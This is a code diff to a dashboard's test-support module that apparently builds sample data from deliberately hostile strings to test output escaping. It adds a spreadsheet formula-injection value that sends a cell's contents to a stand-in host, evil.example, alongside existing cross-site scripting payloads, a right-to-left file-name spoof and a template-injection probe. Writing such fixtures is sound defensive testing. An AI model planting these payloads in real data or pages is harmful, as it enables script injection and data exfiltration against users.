@@ -8,6 +8,7 @@ from tests.support.dashboard.history import DAY, MINUTE, SECOND, History
 
 HOSTILE_SESSION = 'weird/session id "quoted" <b>ünïcode</b> 100% #1?x=\u202eevil'
 HOSTILE_USER = "o'brien/<script>alert(1)</script>"
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1, "click")'
 HOSTILE_TEXT = (
     "<script>document.title='owned'</script><img src=x onerror=alert(1)>\x1b[31mred\x1b[0m \x00nul "
     "\u202egnp.exe\u202c {{ 7*7 }} </blockquote></article>"
@@ -166,6 +167,7 @@ def make_sample(now: int) -> Sample:
                 rater=f"user-{number % 3}",
                 service=("", "help-centre")[number % 2],
                 scope="trace" if number == 7 else "span",
+                comment=FORMULA if number == 3 else "",
             )
     for number in range(45):  # more than a page of everything, five at the very same nanosecond
         at = now - 12 * DAY - number // 5 * MINUTE
